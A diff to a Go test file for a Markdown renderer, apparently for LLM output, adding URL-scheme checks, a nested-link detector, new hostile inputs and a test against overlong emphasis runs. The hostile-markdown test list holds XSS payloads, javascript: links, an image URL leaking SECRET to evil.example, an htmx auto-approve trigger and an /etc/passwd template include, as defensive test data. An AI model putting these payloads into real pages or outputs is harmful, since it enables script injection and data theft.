@@ -4,6 +4,7 @@ import (
 	"fmt"
 	"os"
 	"regexp"
+	"slices"
 	"strings"
 	"testing"
 	"unicode/utf8"
@@ -13,7 +14,12 @@ import (
 
 var links = llm.Links{
 	Cite: func(n int) (string, bool) { return fmt.Sprintf("/documents/d%d?at=1&x=2", n), n <= 8 },
-	Out:  func(u string) (string, bool) { return "/out?to=signed", true },
+	Out: func(u string) (string, bool) {
+		if !strings.HasPrefix(u, "http://") && !strings.HasPrefix(u, "https://") {
+			return "/wrong", true
+		}
+		return "/out?to=signed", true
+	},
 }
 
 const document = `# Leave
@@ -120,6 +126,9 @@ func wellFormed(t *testing.T, doc, html string) {
 		switch {
 		case name == "hr" || name == "br":
 		case m[1] != '/':
+			if name == "a" && slices.Contains(open, "a") {
+				t.Fatalf("link in a link in %q of %q", html, doc)
+			}
 			open = append(open, name)
 		case len(open) == 0 || open[len(open)-1] != name:
 			t.Fatalf("%q closes %v in %q of %q", m, open, html, doc)
@@ -142,7 +151,7 @@ func TestA73_A74_A75_A78_A79_A82_HostileMarkdown(t *testing.T) {
 	for _, text := range []string{
 		"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=x>", "<iframe srcdoc='<p>'>", "<math><mi>",
 		"[x](javascript:alert(1))", "[x](java\tscript:x)", "[x](java&Tab;script:x)", "[x](&#106;avascript:x)", "[x](data:text/html,x)",
-		"[x](vbscript:x)", "<javascript:x>", "[x](//evil.example/)", `[x](/\evil.example)`, "[x](\\\\evil)", "[x](/%5cevil)",
+		"[x](vbscript:x)", "[x](ftp://evil.example/x)", "[x](///evil.example/)", "<javascript:x>", "[x](//evil.example/)", `[x](/\evil.example)`, "[x](\\\\evil)", "[x](/%5cevil)",
 		`<div hx-get="/approvals/1/approve" hx-trigger="load">`, `<a id=htmx>`, "<form name=x>", `[x](/a "onclick=x")`,
 		"![secret](https://evil.example/?q=SECRET)", "![a][r]\n\n[r]: https://evil.example/?q=SECRET", "[1]: https://evil.example\n\n[1]",
 		"[r][r]\n\n[r]: javascript:x", "\x1b[31mred\u202etxt.exe\U000E0041", "&#8238;abc&#0;&#x1b;&#xE0041;", "{{.Env}} {% include '/etc/passwd' %}",
@@ -205,4 +214,12 @@ func BenchmarkStream(b *testing.B) {
 		}
 	}
 	fmt.Fprintln(os.Stderr, len(text))
+}
+
+// TestTame: a paragraph that could cost too much is plain text; its neighbours are not.
+func TestA77_TooManyMarksArePlain(t *testing.T) {
+	html := string(llm.Render("*a*\n\n"+strings.Repeat("*b* ", 1500)+"\n\n*c*\n\n# "+strings.Repeat("*d* ", 1500), links))
+	if strings.Count(html, "<em>") != 2 || strings.Contains(html, "<h3>") || !strings.Contains(html, "*b* *b*") {
+		t.Error(html[:200])
+	}
 }
